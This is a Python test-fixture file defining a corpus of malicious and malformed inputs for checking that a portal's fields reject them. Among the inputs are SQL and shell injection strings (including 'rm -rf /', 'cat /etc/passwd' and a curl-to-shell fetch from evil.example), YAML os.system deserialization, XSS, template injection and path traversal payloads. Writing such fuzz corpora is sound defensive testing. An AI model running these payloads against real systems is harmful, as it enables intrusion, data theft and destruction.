"""Nasty inputs, by what they are: data only, sent by ``test_corpus``.

Strings come in four kinds, which decide where they must be refused:

- ``PRINTABLE``: printable text that means something to a database, a shell, PromQL, YAML, a
  template engine or a path resolver, or that only looks like a name (look-alike letters, upper
  case, accents). No identifier (slug, username, image, resource name, enum, ...) may take one;
  free text (a justification, a note, a team's name) keeps it verbatim, as it is never run.
- ``MULTILINE``: printable text with line breaks or tabs: refused by identifiers and one-line
  text (a team's name), kept in multi-line text (a justification).
- ``CONTROL``: control, format and non-characters (NUL, escape sequences, bidi overrides,
  zero-width spaces, lone surrogates): refused everywhere.
- ``OVERLONG``: longer than any field of the portal takes: refused everywhere.

Numbers are refused by every count, amount and id the portal takes (each of which has an upper
bound below 2**31 and takes no fraction); dates by every date field; wrong types by every field;
bodies and raw query strings by every endpoint.
"""

from __future__ import annotations

import json
from dataclasses import dataclass

PRINTABLE = "printable"
MULTILINE = "multiline"
CONTROL = "control"
OVERLONG = "overlong"


@dataclass(frozen=True)
class Nasty:
    label: str
    value: object
    kind: str = PRINTABLE

    def __str__(self) -> str:
        return self.label


def _strings(kind: str, *pairs: tuple[str, str]) -> list[Nasty]:
    return [Nasty(label, value, kind) for label, value in pairs]


SQL = _strings(
    PRINTABLE,
    ("sql-or-true", "' OR '1'='1"),
    ("sql-drop-table", "'; DROP TABLE tenants_team; --"),
    ("sql-double-quote", '" OR ""="'),
    ("sql-stacked-sleep", "1; SELECT pg_sleep(10)"),
    ("sql-comment", "admin'--"),
    ("sql-union", "' UNION SELECT username, password FROM auth_user --"),
    ("sql-like-wildcard", "%' AND 1=0 UNION SELECT NULL --"),
    ("sql-copy-program", "'; COPY (SELECT '') TO PROGRAM 'id'; --"),
    ("sql-percent", "%"),
    ("sql-underscore", "_"),
    ("sql-backslash-quote", "\\'"),
)

SHELL = _strings(
    PRINTABLE,
    ("shell-subst", "$(reboot)"),
    ("shell-backticks", "`id`"),
    ("shell-semicolon", "; rm -rf / ;"),
    ("shell-pipe", "| cat /etc/passwd"),
    ("shell-and-curl", "&& curl http://evil.example/x | sh"),
    ("shell-ifs", "${IFS}id"),
    ("shell-variable", "$HOME"),
    ("shell-redirect", "> /etc/passwd"),
    ("shell-glob", "*"),
    ("shell-tilde", "~root"),
    ("shell-history", "!!"),
    ("shell-option", "--help"),
    ("shell-dash-rf", "-rf"),
)

PROMQL = _strings(
    PRINTABLE,
    ("promql-close-selector", '"} or vector(1) #'),
    ("promql-regex-any", 'namespace=~".+"'),
    ("promql-all-series", '{__name__=~".+"}'),
    ("promql-aggregate", "sum(rate(x[5m])) by (namespace)"),
    ("promql-range-escape", '"}[1y]) or up{job="'),
    ("promql-backslash", "\\"),
    ("promql-quote", 'a"b'),
    ("promql-braces", "{}"),
    ("promql-or", "1 or 1"),
)

YAML = _strings(
    PRINTABLE,
    ("yaml-mapping", "key: value"),
    ("yaml-sequence", "- item"),
    ("yaml-python-object", "!!python/object/apply:os.system ['id']"),
    ("yaml-anchor", "&anchor"),
    ("yaml-alias", "*anchor"),
    ("yaml-document", "---"),
    ("yaml-end", "..."),
    ("yaml-complex-key", "? complex"),
    ("yaml-bool", "yes"),
    ("yaml-null", "null"),
    ("yaml-tilde", "~"),
    ("yaml-hex", "0x1F"),
    ("yaml-block", "|"),
    ("yaml-reserved", "@reserved"),
    ("yaml-tag-directive", "%TAG ! tag:example.com,2000:"),
    ("yaml-flow-mapping", "{a: 1}"),
    ("yaml-flow-sequence", "[1, 2]"),
    ("yaml-comment", "# comment"),
)

PATHS = _strings(
    PRINTABLE,
    ("path-traversal", "../../etc/passwd"),
    ("path-dot-dot", ".."),
    ("path-dot", "."),
    ("path-encoded-traversal", "..%2f..%2fetc%2fpasswd"),
    ("path-absolute", "/etc/passwd"),
    ("path-windows", "C:\\Windows\\system32"),
    ("path-doubled-dots", "....//....//"),
    ("path-encoded-dots", "%2e%2e%2f"),
    ("path-file-url", "file:///etc/passwd"),
    ("path-sibling", "vision/../speech"),
    ("path-trailing-slash", "vision/"),
    ("path-kube-system", "kube-system"),
    ("path-default-namespace", "default"),
)

MARKUP = _strings(
    PRINTABLE,
    ("html-script", "<script>alert(1)</script>"),
    ("html-attribute", '"><img src=x onerror=alert(1)>'),
    ("html-javascript-url", "javascript:alert(1)"),
    ("template-jinja", "{{7*7}}"),
    ("template-django", "{% debug %}"),
    ("template-dollar", "${7*7}"),
    ("html-comment", "<!--"),
    ("format-percent-n", "%s%s%s%s%n"),
    ("format-attribute", "{0.__class__.__mro__}"),
    ("format-named", "%(password)s"),
    ("ldap-filter", "*)(uid=*))(|(uid=*"),
    ("url-with-credentials", "https://user:secret@evil.example/"),
)

UNICODE = _strings(
    PRINTABLE,
    ("emoji", "🚀"),
    ("emoji-zwj-family", "👨\u200d👩\u200d👧\u200d👦"),
    ("greek", "Ωmega"),
    ("fullwidth", "ｖｉｓｉｏｎ"),
    ("upper-case", "VISION"),
    ("accented", "vísion"),
    ("roman-numeral", "Ⅻ"),
    ("turkish-dotted-i", "İ"),
    ("sharp-s", "ß"),
    ("ligature", "ﬁ"),
    ("math-bold", "𝐯𝐢𝐬𝐢𝐨𝐧"),
    ("arabic", "عربي"),
    ("hebrew", "עברית"),
    ("chinese", "中文"),
    ("combining-accent", "a\u0301"),
    ("zalgo", "Z\u0324\u0354\u0367\u0311\u0313a\u0308\u0356\u032dl\u036e\u0312\u036b"),
    ("fullwidth-digits", "１２３"),
    ("arabic-digits", "٣٤"),
    ("superscript-digit", "²"),
    ("no-break-space", "\u00a0"),
    ("ideographic-space", "\u3000"),
    ("spaces", "   "),
    ("padded", "  vision  "),
    ("empty", ""),
)

MULTILINE_TEXT = _strings(
    MULTILINE,
    ("newline", "a\nb"),
    ("crlf-header-injection", "a\r\nSet-Cookie: session=1"),
    ("tab", "a\tb"),
    ("yaml-multiline-document", "a: 1\n---\nb: !!python/name:os.system"),
)

CONTROL_TEXT = _strings(
    CONTROL,
    ("nul", "\x00"),
    ("nul-inside", "vision\x00"),
    ("soh", "\x01"),
    ("bell", "\x07"),
    ("backspace", "\x08"),
    ("vertical-tab", "\x0b"),
    ("form-feed", "\x0c"),
    ("ansi-colour", "\x1b[31mred\x1b[0m"),
    ("ansi-title", "\x1b]0;owned\x07"),
    ("delete", "\x7f"),
    ("c1-next-line", "\x85"),
    ("c1-csi", "\x9b"),
    ("bidi-override", "\u202e"),
    ("bidi-reversed-word", "abc\u202edcba"),
    ("bidi-isolate", "\u2066isolate\u2069"),
    ("zero-width-space", "\u200b"),
    ("zero-width-inside", "vi\u200bsion"),
    ("byte-order-mark", "\ufeff"),
    ("line-separator", "\u2028"),
    ("paragraph-separator", "\u2029"),
    ("noncharacter-fffe", "\ufffe"),
    ("noncharacter-ffff", "\uffff"),
    ("lone-high-surrogate", "\ud800"),
    ("lone-low-surrogate", "\udfff"),
)

OVERLONG_TEXT = _strings(
    OVERLONG,
    ("long-100k", "a" * 100_000),
    ("long-1m", "x" * 1_000_000),
    ("long-emoji-50k", "🚀" * 50_000),
)

STRINGS = SQL + SHELL + PROMQL + YAML + PATHS + MARKUP + UNICODE + MULTILINE_TEXT + CONTROL_TEXT
STRINGS += OVERLONG_TEXT

NUMBERS = [
    Nasty("negative-one", -1),
    Nasty("negative-huge", -(2**63)),
    Nasty("int32-max-plus-one", 2**31),
    Nasty("int64-max", 2**63 - 1),
    Nasty("int64-overflow", 2**63),
    Nasty("huge", 10**30),
    Nasty("huge-4000-digits", int("9" * 4000)),
    Nasty("float-fraction", 1.5),
    Nasty("float-tiny", 1e-9),
    Nasty("float-negative", -0.5),
    Nasty("float-huge", 1e308),
    Nasty("string-nan", "NaN"),
    Nasty("string-infinity", "Infinity"),
    Nasty("string-negative-infinity", "-Infinity"),
    Nasty("string-exponent", "1e400"),
    Nasty("string-hex", "0x10"),
    Nasty("string-octal", "0o17"),
    Nasty("string-binary", "0b11"),
    Nasty("string-fraction", "1.5"),
    Nasty("string-comma", "1,5"),
    Nasty("string-unit", "4 GPUs"),
    Nasty("string-negative", "-1"),
    Nasty("string-huge", "9" * 40),
    Nasty("string-empty", ""),
    Nasty("string-space", " "),
    Nasty("bool-true", True),
    Nasty("bool-false", False),
]

DATES = [
    Nasty("date-feb-30", "2030-02-30"),
    Nasty("date-month-13", "2030-13-01"),
    Nasty("date-zero", "0000-00-00"),
    Nasty("date-year-one", "0001-01-01"),
    Nasty("date-last-day", "9999-12-31"),
    Nasty("date-year-10000", "10000-01-01"),
    Nasty("date-negative-year", "-2030-01-01"),
    Nasty("date-us-format", "12/31/2030"),
    Nasty("date-words", "tomorrow"),
    Nasty("date-epoch-number", 1893456000),
    Nasty("date-with-sql", "2030-01-01'; --"),
    Nasty("date-with-time-junk", "2030-01-01T99:99"),
    Nasty("date-empty-string", ""),
]

WRONG_TYPES = [
    Nasty("type-list", ["a"]),
    Nasty("type-empty-list", []),
    Nasty("type-object", {"a": 1}),
    Nasty("type-empty-object", {}),
    Nasty("type-nested", {"$gt": ""}),
    Nasty("type-list-of-objects", [{"a": {"b": ["c"]}}]),
    Nasty("type-true", True),
    Nasty("type-false", False),
    Nasty("type-zero", 0),
    Nasty("type-float", 0.5),
    Nasty("type-big-int", 2**40),
]
# null is not in WRONG_TYPES: for an optional field it means "not given".
NULL = Nasty("type-null", None)


@dataclass(frozen=True)
class RawBody:
    """A whole request body as bytes, with the content type it is sent as."""

    label: str
    content: bytes
    content_type: str = "application/json"

    def __str__(self) -> str:
        return self.label


def _nested(depth: int) -> bytes:
    return b"[" * depth + b"]" * depth


TEN_MB = 10 * 1024 * 1024

BODIES = [
    RawBody("ten-mb-json", json.dumps({"note": "x" * TEN_MB}).encode()),
    RawBody("ten-mb-garbage", b"\xff" * TEN_MB),
    RawBody("nested-arrays-100k", _nested(100_000)),
    RawBody("nested-objects-50k", b'{"a":' * 50_000 + b"1" + b"}" * 50_000),
    RawBody("nested-in-field-10k", b'{"note": ' + _nested(10_000) + b"}"),
    RawBody("invalid-utf8", b'{"note": "\xff\xfe\xfd"}'),
    RawBody("utf16", '{"note": "x"}'.encode("utf-16")),
    RawBody("bom-prefixed", b'\xef\xbb\xbf{"note": "x"}'),
    RawBody("not-json", b"this is not json"),
    RawBody("truncated", b'{"note": "x'),
    RawBody("trailing-comma", b'{"note": "x",}'),
    RawBody("single-quotes", b"{'note': 'x'}"),
    RawBody("comment", b'{"note": "x" /* hi */}'),
    RawBody("top-level-array", b'["note", "x"]'),
    RawBody("top-level-string", b'"note"'),
    RawBody("top-level-number", b"42"),
    RawBody("top-level-null", b"null"),
    RawBody("nan-literal", b'{"gpus": NaN}'),
    RawBody("infinity-literal", b'{"gpus": Infinity}'),
    RawBody("exponent-overflow", b'{"gpus": 1e999999}'),
    RawBody("digits-5000", b'{"gpus": ' + b"9" * 5000 + b"}"),
    RawBody("empty-json", b""),
    RawBody("xml", b"<note>x</note>", "application/xml"),
    RawBody("yaml", b"note: !!python/object/apply:os.system ['id']", "application/yaml"),
    RawBody("form-garbage", b"%%%=%ff&&=", "application/x-www-form-urlencoded"),
    RawBody("multipart-no-boundary", b"--x\r\n\r\n", "multipart/form-data"),
    RawBody("multipart-bad-boundary", b"garbage", "multipart/form-data; boundary=zzz"),
]

# Path segments standing in for a team slug, an id or a username in a URL.
PATH_SEGMENTS = [
    Nasty("segment-traversal", "..%2F..%2Fetc%2Fpasswd"),
    Nasty("segment-dot-dot", ".."),
    Nasty("segment-encoded-dot-dot", "%2e%2e"),
    Nasty("segment-nul", "%00"),
    Nasty("segment-sql", "1%27%20OR%20%271%27%3D%271"),
    Nasty("segment-emoji", "%F0%9F%9A%80"),
    Nasty("segment-bidi", "%E2%80%AE"),
    Nasty("segment-overlong", "a" * 5000),
    Nasty("segment-negative", "-1"),
    Nasty("segment-huge", "9" * 40),
    Nasty("segment-fraction", "1.5"),
    Nasty("segment-upper", "VISION"),
    Nasty("segment-space", "%20"),
    Nasty("segment-invalid-utf8", "%FF%FE"),
]


def count() -> int:
    """How many distinct nasty inputs the corpus holds."""
    return (
        len(STRINGS)
        + len(NUMBERS)
        + len(DATES)
        + len(WRONG_TYPES)
        + 1
        + len(BODIES)
        + len(PATH_SEGMENTS)
    )
